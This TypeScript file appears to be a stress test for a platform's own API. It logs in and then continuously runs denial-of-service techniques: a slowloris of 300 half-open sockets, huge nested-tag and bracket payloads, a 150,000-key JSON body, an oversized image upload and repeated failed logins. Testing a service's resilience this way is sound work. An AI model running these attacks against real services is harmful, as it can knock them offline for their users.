/**
 * Attacks a platform in several ways at once until it is killed: `attack.ts <address> <username> <password>`. Runs in a
 * separate process, so that it does not slow down the measurement. Notifies the parent after each kind ran once.
 */
import { connect, type Socket } from 'node:net'
import sharp from 'sharp'
import { addArticle, blankDraft } from '../../elements/base/contract/article.ts'
import { login } from '../../elements/base/contract/session.ts'
import { ueditorPath } from '../../elements/base/contract/upload.ts'

const post = (url: string, path: string, body: unknown, token = '') =>
  fetch(`${url}/api${path}`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', 'x-access-token': token },
    body: typeof body === 'string' ? body : JSON.stringify(body)
  }).then(response => response.text())

const attack = async (url: string, username: string, password: string) => {
  const signedIn = JSON.parse(await post(url, login.path, { username, password })) as { result: { token: string } }
  const { token } = signedIn.result
  const picture = await sharp({ create: { width: 7000, height: 7000, channels: 3, background: '#1890ff' } })
    .jpeg({ progressive: true })
    .toBuffer()
  const upload = () => {
    const form = new FormData()
    form.set('upfile', new Blob([picture as BlobPart]), '大.jpg')
    form.set('action', 'uploadimage')
    const headers = { 'x-access-token': token }
    return fetch(`${url}/api${ueditorPath}?maxWidth=100`, { method: 'POST', headers, body: form }).then(r => r.text())
  }
  const write = (content: string) => () =>
    post(url, addArticle.path, { ...blankDraft('1002'), title: '攻击', content }, token)
  const manyKeys = JSON.stringify(Object.fromEntries(Array.from({ length: 150_000 }, (_, index) => [`k${index}`, 1])))
  // Waits for each response and pauses. Floods of requests are left to the load balancer.
  const again = async (work: () => Promise<unknown>) => {
    for (;;) {
      await work().catch(() => undefined)
      await new Promise(resolve => setTimeout(resolve, 100))
    }
  }
  const { hostname, port } = new URL(url)
  const drip = () => {
    const socket = connect(Number(port), hostname).on('error', () => undefined)
    socket.write(
      `POST /api${login.path} HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ncontent-length: 99\r\n\r\n`
    )
    return socket
  }
  const slow: Socket[] = Array.from({ length: 300 }, drip)
  setInterval(() => slow.forEach(socket => socket.write(' ')), 2000)
  const works = [
    write('<b>'.repeat(663_000)),
    write('<'.repeat(1_990_000)),
    upload,
    () => post(url, login.path, manyKeys),
    () => post(url, addArticle.path, '['.repeat(400_000), token),
    () => post(url, login.path, { username: `guess${Math.random()}`, password: 'wrong' })
  ]
  await Promise.allSettled(works.map(work => work()))
  process.send?.('attacking')
  await Promise.all(works.map(again))
}

const [url = '', username = '', password = ''] = process.argv.slice(2)
await attack(url, username, password)
